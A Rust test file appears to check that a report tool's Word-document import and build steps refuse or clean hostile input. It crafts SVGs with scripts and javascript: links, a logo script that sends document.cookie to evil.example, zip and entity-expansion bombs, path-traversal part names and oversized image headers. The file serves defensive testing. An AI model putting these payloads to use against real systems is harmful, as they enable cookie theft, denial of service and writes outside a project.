//! `import` of a Word document written by an attacker, and pictures in a project that
//! came from one: each hostile file is made here, run through the command under a
//! memory limit ([`common::bounded`]), and judged by what a user would notice — the
//! exit status, the message, what was written into the project, and that the run
//! stayed within 5 s of processor time and 1 GB.

mod common;

use std::io::Write as _;
use std::path::{Path, PathBuf};

use common::bounded::*;
use common::*;

const W: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const R: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const IMAGE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image";

/// A .docx of `body` (the inside of `w:body`), with relationships `rels` (id, target)
/// and further parts `parts` (name, bytes).
fn docx(body: &str, rels: &[(&str, &str)], parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    zip.start_file("word/document.xml", options).unwrap();
    write!(
        zip,
        r#"<w:document xmlns:w="{W}" xmlns:r="{R}" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:body>{body}</w:body></w:document>"#
    )
    .unwrap();
    zip.start_file("word/_rels/document.xml.rels", options)
        .unwrap();
    let rels: String = rels
        .iter()
        .map(|(id, target)| {
            format!(r#"<Relationship Id="{id}" Type="{IMAGE}" Target="{target}"/>"#)
        })
        .collect();
    write!(zip, r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>"#).unwrap();
    for (name, bytes) in parts {
        zip.start_file(*name, options).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// A paragraph of text.
fn p(text: &str) -> String {
    format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
}

/// A paragraph holding the picture of relationship `rid`, with alt text `alt`.
fn picture(rid: &str, alt: &str) -> String {
    format!(
        r#"<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="Picture" descr="{alt}"/><a:graphic><a:graphicData><a:blip r:embed="{rid}"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"#
    )
}

/// A 2 KB PNG whose header (with its checksum right, so a decoder believes it) says
/// it is `w` × `h`, followed by a little image data.
fn png_header(w: u32, h: u32) -> Vec<u8> {
    let chunk = |kind: &[u8], data: &[u8]| {
        let mut c = (data.len() as u32).to_be_bytes().to_vec();
        c.extend(kind);
        c.extend(data);
        c.extend(crc32(&c[4..]).to_be_bytes());
        c
    };
    let mut ihdr = w.to_be_bytes().to_vec();
    ihdr.extend(h.to_be_bytes());
    ihdr.extend([8, 6, 0, 0, 0]);
    let mut b = b"\x89PNG\r\n\x1a\n".to_vec();
    b.extend(chunk(b"IHDR", &ihdr));
    // A zlib stream of 2,000 zero bytes, stored: the start of the first rows.
    let mut idat = vec![0x78, 0x01, 0x01, 0xD0, 0x07, 0x2F, 0xF8];
    idat.resize(idat.len() + 2_000, 0);
    b.extend(chunk(b"IDAT", &idat));
    b
}

/// The CRC-32 PNG chunks end with.
fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &byte in bytes {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// Prints what a run took, for the record of limits kept.
fn measured(what: &str, run: &Bounded) {
    eprintln!(
        "{what}: exit {:?}, {:?} of processor time, {:?} MB at most",
        run.code,
        run.cpu,
        run.peak.map(|p| p >> 20)
    );
}

/// A folder holding a copy of the mini project as `project` and `bytes` as
/// `contribution.docx` beside it.
fn workspace(name: &str, bytes: &[u8]) -> PathBuf {
    let cwd = scratch(name);
    let copy = copy_project(&fixture("mini"), name);
    std::fs::rename(&copy, cwd.join("project")).unwrap();
    std::fs::write(cwd.join("contribution.docx"), bytes).unwrap();
    cwd
}

fn import(cwd: &Path) -> Bounded {
    let run = run_bounded(
        cwd,
        &[
            "import",
            "contribution.docx",
            "--partner",
            "council",
            "--project",
            "project",
        ],
    );
    measured(&cwd.file_name().unwrap().to_string_lossy(), &run);
    run
}

/// Imports `bytes` into a fresh workspace and asserts it was refused with exit 2,
/// within the limits, saying `words`, with the project left as it was.
fn refused(name: &str, bytes: &[u8], words: &str) -> Bounded {
    let cwd = workspace(name, bytes);
    let before = snapshot(&cwd);
    let run = import(&cwd);
    run.assert_within_limits(2)
        .says(&format!("contribution.docx {words}"))
        .says("Nothing was imported.");
    assert_eq!(snapshot(&cwd), before, "the import wrote something");
    run
}

fn read(cwd: &Path, path: &str) -> String {
    std::fs::read_to_string(cwd.join("project").join(path))
        .unwrap_or_else(|e| panic!("{path}: {e}"))
}

#[test]
fn an_imported_svg_keeps_its_drawing_and_loses_its_script_handlers_and_links() {
    let svg = br##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20" onload="alert('load')">
<script>alert('script')</script>
<style>@import url(https://evil.example/x.css);</style>
<rect width="40" height="20" fill="#00556e" onclick="alert('click')"/>
<image href="https://evil.example/track.png" width="1" height="1"/>
<a xlink:href="javascript:alert('link')"><text x="2" y="15">Referrals</text></a>
<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>
<set attributeName="href" to="javascript:alert('set')"/>
</svg>"##;
    let body = [p("Our year."), picture("rId1", "Referrals by month")].concat();
    let bytes = docx(
        &body,
        &[("rId1", "media/image1.svg")],
        &[("word/media/image1.svg", svg)],
    );
    let cwd = workspace("import-svg", &bytes);
    let run = import(&cwd);
    run.assert_within_limits(0)
        .says("an SVG picture holding an event handler (onload), a script (<script>)");
    let saved = read(&cwd, "content/images/council-1.svg");
    for gone in [
        "alert",
        "evil.example",
        "script",
        "onload",
        "onclick",
        "foreignObject",
        "iframe",
        "<set",
        "@import",
    ] {
        assert!(
            !saved.contains(gone),
            "{gone} is still in the picture:\n{saved}"
        );
    }
    assert!(
        saved.contains(r##"<rect width="40" height="20" fill="#00556e"/>"##),
        "{saved}"
    );
    assert!(saved.contains(">Referrals</text>"), "{saved}");
    assert!(
        read(&cwd, "content/agencies/council.md")
            .contains("![Referrals by month](images/council-1.svg)")
    );
}

#[test]
fn a_project_svg_with_script_is_refused_at_its_reference_and_nothing_is_built() {
    let project = copy_project(&fixture("mini"), "project-svg");
    std::fs::write(
        project.join("content/images/evil.svg"),
        r#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" onmouseover="alert(1)"/></svg>"#,
    )
    .unwrap();
    let line = append_to_agencies(&project, "![A chart of referrals](images/evil.svg)\n");
    let run = run_bounded(&project, &["build", "--draft"]);
    measured("build", &run);
    run.assert_within_limits(2)
        .says(&format!("content/02-agencies.md:{line}"))
        .says("content/images/evil.svg is an SVG picture holding an event handler (onmouseover), which would run or load on the published website")
        .says("export it again as plain SVG");
    assert!(!project.join("build").exists(), "something was built");
}

#[test]
fn documents_nested_a_hundred_thousand_deep_are_refused_not_crashed() {
    let deep = |open: &str, close: &str, inner: &str| {
        format!("{}{inner}{}", open.repeat(100_000), close.repeat(100_000))
    };
    let run = "<w:r><w:t>deep</w:t></w:r>";
    let shapes = [
        (
            "hyperlinks",
            format!(
                "<w:p>{}</w:p>",
                deep("<w:hyperlink>", "</w:hyperlink>", run)
            ),
        ),
        (
            "insertions",
            format!("<w:p>{}</w:p>", deep("<w:ins w:id=\"1\">", "</w:ins>", run)),
        ),
        (
            "smart tags",
            format!("<w:p>{}</w:p>", deep("<w:smartTag>", "</w:smartTag>", run)),
        ),
        (
            "content controls",
            deep(
                "<w:sdt><w:sdtContent>",
                "</w:sdtContent></w:sdt>",
                &p("deep"),
            ),
        ),
        (
            "runs",
            format!("<w:p>{}</w:p>", deep("<w:r>", "</w:r>", "<w:t>deep</w:t>")),
        ),
    ];
    for (what, body) in shapes {
        let run = refused(
            &format!("import-nested-{}", what.replace(' ', "-")),
            &docx(&body, &[], &[]),
            "is damaged or was made to break programs that read it: its word/document.xml is nested too deeply to be a real document",
        );
        assert!(
            run.cpu.is_none_or(|t| t.as_secs_f64() < 5.0),
            "{what}: {run:?}"
        );
    }
}

#[test]
fn ten_pictures_of_one_part_too_large_unpacked_are_refused_within_the_budget() {
    let zeros = vec![0u8; 190 << 20];
    let body: String = (0..10).map(|_| picture("rId1", "A picture")).collect();
    let bytes = docx(
        &body,
        &[("rId1", "media/image1.png")],
        &[("word/media/image1.png", &zeros)],
    );
    drop(zeros);
    assert!(
        bytes.len() < 1 << 20,
        "the document is {} bytes",
        bytes.len()
    );
    refused(
        "import-huge-part",
        &bytes,
        "is larger than the limit of 100 MB once unpacked (word/media/image1.png takes it over the limit)",
    );
}

#[test]
fn a_picture_shown_ten_times_is_read_and_saved_once() {
    let png = std::fs::read(fixture("mini/content/images/chart.png")).unwrap();
    let body: String = (0..10)
        .map(|n| picture("rId1", &format!("Chart {n}")))
        .collect();
    let bytes = docx(
        &body,
        &[("rId1", "media/image1.png")],
        &[("word/media/image1.png", &png)],
    );
    let cwd = workspace("import-one-part", &bytes);
    import(&cwd).assert_within_limits(0);
    let images: Vec<_> = std::fs::read_dir(cwd.join("project/content/images"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("council-"))
        .collect();
    assert_eq!(images, ["council-1.png"]);
    assert_eq!(
        std::fs::read(cwd.join("project/content/images/council-1.png")).unwrap(),
        png
    );
    let section = read(&cwd, "content/agencies/council.md");
    assert_eq!(
        section.matches("](images/council-1.png)").count(),
        10,
        "{section}"
    );
}

#[test]
fn a_picture_whose_header_says_65535_pixels_square_is_left_out_at_import() {
    let body = [p("Our year."), picture("rId1", "A chart")].concat();
    let bytes = docx(
        &body,
        &[("rId1", "media/image1.png")],
        &[("word/media/image1.png", &png_header(65_535, 65_535))],
    );
    let cwd = workspace("import-huge-png", &bytes);
    import(&cwd)
        .assert_within_limits(0)
        .says("a picture that is a PNG picture of 65,535 × 65,535 pixels, larger than the limit of 50 megapixels (16,384 pixels a side): left out; save a smaller copy");
    assert!(!cwd.join("project/content/images/council-1.png").exists());
    assert!(!read(&cwd, "content/agencies/council.md").contains("images/council-1"));
}

#[test]
fn a_project_picture_with_too_many_pixels_is_refused_at_its_reference_before_typst() {
    let project = copy_project(&fixture("mini"), "project-huge-png");
    std::fs::write(
        project.join("content/images/huge.png"),
        png_header(65_535, 65_535),
    )
    .unwrap();
    std::fs::write(
        project.join("content/images/wide.svg"),
        r#"<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="100000"/>"#,
    )
    .unwrap();
    let line = append_to_agencies(
        &project,
        "![A chart](images/huge.png)\n\n![A map](images/wide.svg)\n",
    );
    let run = run_bounded(&project, &["build", "--draft"]);
    measured("build", &run);
    run.assert_within_limits(2)
        .says(&format!("content/02-agencies.md:{line}"))
        .says("content/images/huge.png is a PNG picture of 65,535 × 65,535 pixels, larger than the limit of 50 megapixels")
        .says("content/images/wide.svg is an SVG picture of 100,000 × 100,000 pixels");
    assert!(!project.join("build").exists(), "something was built");
}

/// The time grew with the cube of the columns (each column's id was checked against
/// every id before it, once per number tried): 2,000 columns titled alike took 1.6 s
/// to import, 5,000 over a minute.
#[test]
fn a_table_of_five_thousand_columns_is_imported_in_linear_time() {
    let cell = "<w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>";
    let figure = "<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>";
    let body = format!(
        "<w:tbl><w:tr>{}</w:tr><w:tr>{}</w:tr></w:tbl>",
        cell.repeat(5_000),
        figure.repeat(5_000)
    );
    let cwd = workspace("import-wide-table", &docx(&body, &[], &[]));
    let run = import(&cwd);
    run.assert_within_limits(0);
    let data = read(&cwd, "content/data/council_table_1.yaml");
    assert!(
        data.contains("  - {id: x_5000, title: x, unit: count}\n"),
        "{}",
        &data[..500]
    );
}

#[test]
fn two_hundred_thousand_runs_in_a_paragraph_are_imported_in_linear_time() {
    let body = format!(
        "<w:p>{}</w:p>",
        "<w:r><w:t xml:space=\"preserve\">a </w:t></w:r>".repeat(200_000)
    );
    let cwd = workspace("import-many-runs", &docx(&body, &[], &[]));
    import(&cwd).assert_within_limits(0);
    assert!(read(&cwd, "content/agencies/council.md").contains("a a a a"));
}

#[test]
fn files_that_are_not_word_documents_are_named_for_what_they_are() {
    refused(
        "import-pdf",
        b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n",
        "is a PDF file, not a Word document (.docx)",
    );
    refused(
        "import-empty",
        b"",
        "is empty (0 bytes), so there is nothing to import",
    );
    let mut ole = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec();
    ole.resize(1024, 0);
    ole.extend("EncryptedPackage".encode_utf16().flat_map(u16::to_le_bytes));
    ole.resize(4096, 0);
    let run = refused(
        "import-password",
        &ole,
        "is a password-protected Word document",
    );
    assert!(!run.stderr.contains("Word 97-2003"), "{}", run.stderr);
    let mut doc = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec();
    doc.extend("WordDocument".encode_utf16().flat_map(u16::to_le_bytes));
    refused(
        "import-doc",
        &doc,
        "is a Word 97-2003 document (.doc), not a .docx",
    );
}

#[test]
fn a_zip_bomb_is_refused_as_larger_than_the_limit() {
    let spaces = vec![b' '; 150 << 20];
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().compression_level(Some(1));
    zip.start_file("word/document.xml", options).unwrap();
    write!(zip, r#"<w:document xmlns:w="{W}"><w:body>"#).unwrap();
    zip.write_all(&spaces).unwrap();
    write!(zip, "</w:body></w:document>").unwrap();
    let bytes = zip.finish().unwrap().into_inner();
    drop(spaces);
    refused(
        "import-bomb",
        &bytes,
        "is larger than the limit of 100 MB once unpacked (word/document.xml takes it over the limit)",
    );
}

#[test]
fn parts_named_to_climb_out_of_the_package_write_nothing_outside_the_project() {
    let png = std::fs::read(fixture("mini/content/images/chart.png")).unwrap();
    let body = [picture("rId1", "One"), picture("rId2", "Two")].concat();
    let bytes = docx(
        &body,
        &[
            ("rId1", "../../../../evil.png"),
            ("rId2", "/../../evil2.png"),
        ],
        &[
            ("../../evil.png", &png),
            ("evil.png", &png),
            ("../evil2.png", &png),
        ],
    );
    let cwd = workspace("import-traversal", &bytes);
    let outside = cwd.parent().unwrap();
    let before_outside: Vec<_> = std::fs::read_dir(outside)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    let before = snapshot(&cwd.join("project"));
    import(&cwd).assert_within_limits(0);
    let after = snapshot(&cwd.join("project"));
    let added: Vec<_> = after
        .iter()
        .filter(|f| !before.contains(f))
        .map(|(p, _)| p.to_string_lossy().into_owned())
        .collect();
    // The imported files, and the record of what the import wrote.
    assert!(
        added
            .iter()
            .all(|p| p.starts_with("content/") || p == "imports.yaml"),
        "{added:?}"
    );
    let mut now: Vec<_> = std::fs::read_dir(outside)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    now.retain(|n| !before_outside.contains(n));
    assert!(
        now.iter().all(|n| !n.to_string_lossy().contains("evil")),
        "{now:?}"
    );
    assert!(!cwd.join("evil.png").exists() && !cwd.join("project/evil.png").exists());
}

#[test]
fn entity_expansion_is_refused() {
    let lol = format!(
        r#"<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&d;&d;&d;&d;</w:t></w:r></w:p></w:body></w:document>"#
    );
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file(
        "word/document.xml",
        zip::write::SimpleFileOptions::default(),
    )
    .unwrap();
    zip.write_all(lol.as_bytes()).unwrap();
    let bytes = zip.finish().unwrap().into_inner();
    refused(
        "import-entities",
        &bytes,
        "is damaged: its word/document.xml cannot be read (it has a DOCTYPE",
    );
}

#[test]
fn a_document_of_half_a_million_paragraphs_or_twenty_thousand_tables_is_refused() {
    let paragraphs = p("word ").repeat(490_000);
    refused(
        "import-paragraphs",
        &docx(&paragraphs, &[], &[]),
        "has 490,000 paragraphs, more than the limit of 100,000 for a contribution",
    );
    let table = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>a</w:t></w:r></w:p></w:tc></w:tr><w:tr><w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc></w:tr></w:tbl>";
    refused(
        "import-tables",
        &docx(&table.repeat(20_000), &[], &[]),
        "has 20,000 tables, more than the limit of 500 for a contribution",
    );
}

/// Cells spanning 64 columns each made a data set of 320,000 columns, 14 MB, which
/// the check then refused as too large a file: the table is left out and noted.
#[test]
fn a_table_wider_than_word_makes_is_left_out_with_a_note() {
    let cell = r#"<w:tc><w:tcPr><w:gridSpan w:val="64"/></w:tcPr><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc>"#;
    let body = [
        p("Our year."),
        format!(
            "<w:tbl><w:tr>{}</w:tr><w:tr>{}</w:tr></w:tbl>",
            cell.repeat(5_000),
            cell.repeat(5_000)
        ),
    ]
    .concat();
    let cwd = workspace("import-spanned-table", &docx(&body, &[], &[]));
    import(&cwd)
        .assert_within_limits(0)
        .says("a table of 320,000 columns: left out, as Word's own tables have at most 63 columns");
    assert!(
        !cwd.join("project/content/data/council_table_1.yaml")
            .exists()
    );
}

#[test]
fn a_logo_svg_with_script_is_refused_at_its_place_in_report_yaml() {
    let project = copy_project(&fixture("mini"), "project-logo");
    std::fs::write(
        project.join("content/images/logo.svg"),
        r#"<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40"><script>fetch('https://evil.example/?'+document.cookie)</script><text x="4" y="30">TSCP</text></svg>"#,
    )
    .unwrap();
    let report = project.join("report.yaml");
    let text = std::fs::read_to_string(&report).unwrap();
    let line = text.lines().count() + 2;
    std::fs::write(
        &report,
        format!("{text}branding:\n  logo: content/images/logo.svg\n  logo_alt: TSCP\n"),
    )
    .unwrap();
    let run = run_bounded(&project, &["build", "--draft"]);
    measured("build", &run);
    run.assert_within_limits(2)
        .says(&format!("report.yaml:{line}"))
        .says("content/images/logo.svg is an SVG picture holding a script (<script>)");
    assert!(!project.join("build").exists(), "something was built");
}

/// Which of two parts of the same name a program reads differs from one to another,
/// so the words imported might not be the words Word shows.
#[test]
fn two_parts_of_the_same_name_are_refused() {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for (name, words) in [
        ("word/document.xml", "What Word shows"),
        ("word/document.xmY", "What else is read"),
    ] {
        zip.start_file(name, options).unwrap();
        write!(
            zip,
            r#"<w:document xmlns:w="{W}"><w:body>{}</w:body></w:document>"#,
            p(words)
        )
        .unwrap();
    }
    let mut bytes = zip.finish().unwrap().into_inner();
    // Both entries' names, in their local headers and in the central directory.
    for at in 0..bytes.len() - 17 {
        if &bytes[at..at + 17] == b"word/document.xmY" {
            bytes[at + 16] = b'l';
        }
    }
    refused(
        "import-duplicate",
        &bytes,
        "is damaged or was made to deceive: two of its parts have the same name",
    );
}

/// The fuzz target's entry point (fuzz/fuzz_targets/import.rs) on the fixtures and on
/// each of them with its main part cut short at 300 places: nothing panics, and
/// nothing would be written outside content/ (the entry point asserts both).
#[test]
fn the_fuzz_entry_point_takes_the_fixtures_and_their_damaged_copies() {
    use std::io::Read as _;
    for name in [
        "import/contribution.docx",
        "import/hostile.docx",
        "read/hscp-example.docx",
    ] {
        let bytes = std::fs::read(fixture(name)).unwrap();
        safeguarding_report::fuzzing::import_docx(&bytes);
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(&bytes)).unwrap();
        let mut parts = Vec::new();
        for i in 0..archive.len() {
            let mut file = archive.by_index(i).unwrap();
            let mut data = Vec::new();
            file.read_to_end(&mut data).unwrap();
            parts.push((file.name().unwrap().into_owned(), data));
        }
        let main = parts
            .iter()
            .position(|(n, _)| n == "word/document.xml")
            .unwrap();
        let length = parts[main].1.len();
        for cut in (0..300).map(|i| i * length / 300) {
            let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
            for (n, (part, data)) in parts.iter().enumerate() {
                zip.start_file(part.as_str(), zip::write::SimpleFileOptions::default())
                    .unwrap();
                zip.write_all(if n == main { &data[..cut] } else { data })
                    .unwrap();
            }
            safeguarding_report::fuzzing::import_docx(&zip.finish().unwrap().into_inner());
        }
    }
}

/// A picture within the document's budget but over the 50 MB a project picture may
/// be is left out with a note, rather than written and then refused by the check.
#[test]
fn a_picture_of_sixty_megabytes_is_left_out_with_a_note() {
    let mut png = png_header(100, 100);
    png.resize(60 << 20, 0);
    let body = [p("Our year."), picture("rId1", "A photograph")].concat();
    let bytes = docx(
        &body,
        &[("rId1", "media/image1.png")],
        &[("word/media/image1.png", &png)],
    );
    drop(png);
    let cwd = workspace("import-60mb-picture", &bytes);
    import(&cwd)
        .assert_within_limits(0)
        .says("a picture that is 60.0 MB, more than the 50 MB a picture may be: left out");
    assert!(!cwd.join("project/content/images/council-1.png").exists());
}

/// Adds `markdown` after a blank line at the end of the mini project's agencies
/// chapter; the line it starts on.
fn append_to_agencies(project: &std::path::Path, markdown: &str) -> usize {
    let section = project.join("content/02-agencies.md");
    let text = std::fs::read_to_string(&section).unwrap();
    std::fs::write(&section, format!("{text}\n{markdown}")).unwrap();
    text.lines().count() + 2
}
